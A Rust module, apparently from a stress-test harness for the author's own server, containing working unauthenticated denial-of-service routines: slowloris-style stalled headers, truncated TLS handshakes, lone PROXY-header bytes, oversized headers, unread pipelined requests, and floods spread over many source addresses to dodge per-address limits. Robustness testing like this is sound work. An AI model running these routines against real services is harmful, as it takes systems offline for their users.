//! Attacks without a token: sockets, pages, handshakes.

use crate::target::Target;
use futures::future::join_all;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// More sockets than there is room for, each with pipelined requests whose responses are never read.
pub(crate) async fn pages_never_read(target: Target) {
    let requests = "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n".repeat(2000);
    let one = |_| async {
        loop {
            let mut stream = target.tcp().await;
            while stream.write_all(requests.as_bytes()).await.is_ok() {}
        }
    };
    join_all((0..5000).map(one)).await;
}

pub(crate) async fn pages(target: Target, request: &'static str) {
    let one = |_| target.ask(request.to_owned());
    join_all((0..256).map(one)).await;
}

pub(crate) async fn wrong_tokens(target: Target) {
    let token = "eyJhbGciOiJIUzI1NiJ9.e30.x";
    let one = |_| {
        target.ask(format!(
            "GET /api/agents HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n\r\n"
        ))
    };
    join_all((0..256).map(one)).await;
}

pub(crate) async fn silent_sockets(target: Target) {
    let one = |_| async {
        loop {
            let mut stream = target.tcp().await;
            let _ = stream.write_all(b"GET /ws/agent HTTP/1.1\r\nHost: x\r\nX-Slow: ").await;
            let _ = stream.read(&mut [0; 64]).await;
        }
    };
    join_all((0..5000).map(one)).await;
}

pub(crate) async fn heads(target: Target) {
    let head = format!("GET / HTTP/1.1\r\nHost: x\r\nX-Long: {}", "x".repeat(1 << 20));
    let one = |_| target.ask(head.clone());
    join_all((0..256).map(one)).await;
}

pub(crate) async fn come_and_go(target: Target) {
    let one = |_| async {
        loop {
            drop(target.tcp().await);
            tokio::task::yield_now().await;
        }
    };
    join_all((0..16).map(one)).await;
}

/// The first bytes of a TLS client hello, and no more.
pub(crate) async fn half_handshakes(target: Target) {
    let one = |_| async {
        loop {
            let mut stream = target.tcp().await;
            let _ = stream.write_all(b"\x16\x03\x01\x3f\xff\x01\x00\x3f\xfb\x03\x03").await;
            let _ = stream.write_all(&[7; 8000]).await;
            let _ = stream.read(&mut [0; 64]).await;
        }
    };
    join_all((0..5000).map(one)).await;
}

/// The first byte of a PROXY header, and no more.
pub(crate) async fn proxy_headers(target: Target) {
    let one = |_| async {
        loop {
            let mut stream = target.tcp().await;
            let _ = stream.write_all(b"P").await;
            let _ = stream.read(&mut [0; 64]).await;
        }
    };
    join_all((0..5000).map(one)).await;
}

/// Each from another address, so that no share of an address holds them back.
pub(crate) async fn many_addresses(target: Target) {
    let one = |n: u32| {
        let target = &target;
        async move {
            loop {
                let mut stream = target.tcp_from(n).await;
                let _ = stream.write_all(b"GET /ws/agent HTTP/1.1\r\nHost: x\r\nX-Slow: ").await;
                let _ = stream.read(&mut [0; 64]).await;
            }
        }
    };
    join_all((0..5000).map(one)).await;
}
